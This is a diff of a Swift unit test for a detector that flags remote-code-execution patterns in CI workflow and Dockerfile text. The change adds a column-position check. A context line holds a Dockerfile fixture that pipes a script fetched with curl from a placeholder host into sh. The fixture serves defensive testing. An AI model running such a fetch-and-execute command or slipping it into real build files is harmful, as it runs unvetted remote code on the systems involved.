@@ -64,6 +64,7 @@ final class UserDefectTests: XCTestCase {
             """
         let ci = detector.scan(path: ".github/workflows/ci.yml", text: workflow).filter { $0.ruleID.hasPrefix("rce.") }
         XCTAssertEqual(ci.map(\.line), [11], "\(ci.map { ($0.ruleID, $0.line) })")
+        XCTAssertEqual(ci.map(\.column), [11], "the column in the file, past the block's indentation")
         XCTAssertTrue(ci.first?.redactedSecret.hasPrefix("curl") == true, ci.first?.redactedSecret ?? "")
 
         let docker = "FROM debian\nRUN apt-get update && \\\n    apt-get install -y curl && \\\n    curl https://x.example.invalid/a.sh | sh\n"
